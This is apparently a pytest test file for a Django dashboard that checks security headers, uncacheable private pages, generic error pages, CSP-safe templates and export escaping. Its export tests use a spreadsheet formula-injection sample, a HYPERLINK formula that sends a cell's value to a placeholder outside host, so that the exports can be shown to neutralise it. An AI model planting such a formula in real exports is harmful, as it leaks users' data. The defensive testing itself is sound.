"""Hardening of every response: security headers, no caching of private pages, generic error pages, templates
that hold under the Content Security Policy, and exports that a spreadsheet cannot run."""

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.contrib.auth.decorators import login_not_required
from django.core.exceptions import PermissionDenied, SuspiciousOperation
from django.http import HttpResponse
from django.test import Client
from django.urls import include, path
from django.views.decorators.cache import cache_control

import regietafel
from regietafel.core.tables import read_table, write_table

SECRET_DETAIL = "detail-that-must-not-show-42"


def crash(request):
    raise RuntimeError(SECRET_DETAIL)


def forbidden(request):
    raise PermissionDenied(SECRET_DETAIL)


def bad(request):
    raise SuspiciousOperation(SECRET_DETAIL)


@cache_control(public=True, max_age=3600)
def cacheable(request):
    return HttpResponse("figures")


@login_not_required
@cache_control(public=True, max_age=60)
def public_cacheable(request):
    return HttpResponse("public")


urlpatterns = [
    path("kapot/", crash),
    path("verboden/", forbidden),
    path("ongeldig/", bad),
    path("cachebaar/", cacheable),
    path("openbaar/", public_cacheable),
    path("", include("regietafel.urls")),
]


def directives(response) -> set[str]:
    return {part.strip() for part in response.get("Cache-Control", "").split(",") if part.strip()}


# --- Security headers ---


def test_pages_carry_the_security_headers(logged_in, settings, dataset):
    settings.SECURE_HSTS_SECONDS = 31536000
    response = logged_in.get("/", secure=True)
    assert response.status_code == 200
    csp = response["Content-Security-Policy"]
    assert "default-src 'self'" in csp and "script-src 'self'" in csp and "style-src 'self'" in csp
    assert "frame-ancestors 'none'" in csp
    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
    assert response["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains; preload"
    assert response["X-Frame-Options"] == "DENY"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "same-origin"
    assert response["Cross-Origin-Opener-Policy"] == "same-origin"


def test_the_session_cookie_is_http_only_and_ends_with_the_browser(client, user, settings):
    from tests.conftest import PASSWORD

    response = client.post("/inloggen/", {"username": user.username, "password": PASSWORD})
    assert response.status_code == 302
    cookie = response.cookies[settings.SESSION_COOKIE_NAME]
    assert cookie["httponly"] and cookie["samesite"] == "Lax"
    assert cookie["expires"] == "" and cookie["max-age"] == ""
    assert settings.SESSION_COOKIE_AGE <= 8 * 3600


# --- Cache-Control: private, no-store ---


@pytest.mark.parametrize(
    "url",
    ["/", "/gemeente/GM0177/", "/regietafel/", "/export/huisvesting.csv?halfjaar=2025-H2", "/import/"],
)
def test_pages_and_downloads_of_a_signed_in_user_are_not_stored(logged_in, dataset, url):
    response = logged_in.get(url)
    assert response.status_code == 200
    assert {"private", "no-store"} <= directives(response)


@pytest.mark.urls(__name__)
def test_a_view_cannot_make_a_signed_in_page_cacheable(logged_in):
    response = logged_in.get("/cachebaar/")
    assert response.status_code == 200
    assert directives(response) == {"private", "no-store"}
    assert not response.has_header("Expires")


def test_the_login_page_is_not_stored(client):
    response = client.get("/inloggen/")
    assert response.status_code == 200
    assert {"private", "no-store"} <= directives(response)


@pytest.mark.urls(__name__)
def test_an_anonymous_page_may_choose_its_own_caching(client):
    response = client.get("/openbaar/")
    assert directives(response) == {"public", "max-age=60"}


@pytest.mark.urls(__name__)
def test_a_redirect_to_the_login_page_is_not_stored(client):
    response = client.get("/gemeente/GM0177/")
    assert response.status_code == 302
    assert "no-store" in directives(response)


# --- Generic error pages ---


@pytest.fixture
def crashing_client(user, settings):
    settings.DEBUG = False
    client = Client(raise_request_exception=False, HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(user)
    return client


@pytest.mark.urls(__name__)
@pytest.mark.parametrize(
    ("url", "status", "template", "heading"),
    [
        ("/kapot/", 500, "500.html", "Something went wrong"),
        ("/verboden/", 403, "403.html", "No access"),
        ("/ongeldig/", 400, "400.html", "Bad request"),
        ("/bestaat-niet/", 404, "404.html", "Page not found"),
    ],
)
def test_error_pages_are_generic(crashing_client, url, status, template, heading):
    response = crashing_client.get(url)
    assert response.status_code == status
    assert template in [t.name for t in response.templates]
    content = response.content.decode()
    assert f'<h1 class="utrecht-heading-1">{heading}</h1>' in content
    for detail in [SECRET_DETAIL, "Traceback", "RuntimeError", "PermissionDenied", "Resolver404", "kapot"]:
        assert detail not in content
    assert "unsafe-inline" not in response["Content-Security-Policy"]
    assert "no-store" in directives(response)


def test_the_500_page_renders_without_a_request():
    """Django renders 500.html without a context: nothing in it may need the request, the user or the database."""
    from django.template.loader import render_to_string
    from django.utils import translation

    with translation.override("en"):
        html = render_to_string("500.html")
    assert '<h1 class="utrecht-heading-1">Something went wrong</h1>' in html
    assert "/static/regietafel/app.css" in html and 'href="/"' in html


def test_the_404_page_for_an_anonymous_visitor(client, settings, db):
    settings.DEBUG = False
    response = client.get("/bestaat-niet/", HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 404
    assert "Page not found" in response.content.decode()


def test_a_form_without_a_valid_csrf_token_gets_a_generic_page(user, settings):
    settings.DEBUG = False
    client = Client(enforce_csrf_checks=True, HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(user)
    response = client.post("/uitloggen/")
    assert response.status_code == 403
    assert "403_csrf.html" in [t.name for t in response.templates]
    content = response.content.decode()
    assert "The form has expired" in content
    assert "CSRF" not in content and "<style" not in content


# --- Templates under the Content Security Policy ---

PACKAGE = Path(regietafel.__file__).parent
INLINE = {
    "style attribute": re.compile(r"\sstyle\s*="),
    "style element": re.compile(r"<style[\s>]"),
    "inline script": re.compile(r"<script(?![^>]*\bsrc=)[^>]*>"),
    "event handler attribute": re.compile(r"\son[a-z]+\s*=", re.IGNORECASE),
    "javascript: URL": re.compile(r"javascript:", re.IGNORECASE),
    "htmx inline handler": re.compile(r"\shx-on"),
}


def test_no_template_holds_inline_script_or_style():
    """The CSP forbids them: they would silently not work. The browser test checks the rendered pages."""
    templates = sorted(PACKAGE.glob("**/templates/**/*.html"))
    assert len(templates) > 40
    found = [
        f"{template.relative_to(PACKAGE)}: {name}"
        for template in templates
        for name, pattern in INLINE.items()
        if pattern.search(template.read_text(encoding="utf-8"))
    ]
    assert found == []


def test_the_tile_map_places_tiles_with_classes(logged_in, demo):
    content = logged_in.get("/").content.decode()
    assert 'class="rt-tile rt-tile--r4 rt-tile--c3' in content  # Raalte
    css = (PACKAGE / "static" / "regietafel" / "app.css").read_text(encoding="utf-8")
    for row, column in re.findall(r"rt-tile--r(\d+) rt-tile--c(\d+)", content):
        assert f".rt-tile--r{row} {{ grid-row: {row}; }}" in css
        assert f".rt-tile--c{column} {{ grid-column: {column}; }}" in css


def test_htmx_does_not_inject_its_indicator_style(logged_in):
    content = logged_in.get("/").content.decode()
    assert (
        """<meta name="htmx-config" content='{"includeIndicatorStyles":false,"allowEval":false}'>"""
        in content
    )
    assert ".htmx-indicator" in (PACKAGE / "static" / "regietafel" / "app.css").read_text(encoding="utf-8")


# --- Exports a spreadsheet cannot run ---

FORMULAS = ['=HYPERLINK("https://example.invalid/?d="&A1,"klik")', "+31 6 12345678", "-2+3", "@SUM(A1)"]
PLAIN = ["-3", "+5", "1.5", "gewoon", "-", ""]


def test_a_csv_export_keeps_formula_like_text_as_text():
    rows = [{"value": value} for value in FORMULAS + PLAIN]
    content = write_table(["value"], rows, "csv").decode()
    cells = [row[0] for row in csv.reader(io.StringIO(content))][1:]
    assert cells == ["'" + value for value in FORMULAS] + PLAIN
    # And the export imports again unchanged.
    assert [row[0] for row in read_table(content.encode(), "export.csv")] == FORMULAS + PLAIN


def test_an_xlsx_export_stores_formula_like_text_as_text():
    rows = [{"value": value, "number": -3} for value in FORMULAS]
    content = write_table(["value", "number"], rows, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = list(sheet.iter_rows(min_row=2))
    assert [(row[0].value, row[0].data_type) for row in cells] == [(value, "s") for value in FORMULAS]
    assert {(row[1].value, row[1].data_type) for row in cells} == {(-3, "n")}
    assert [row[0] for row in read_table(content, "export.xlsx")] == FORMULAS
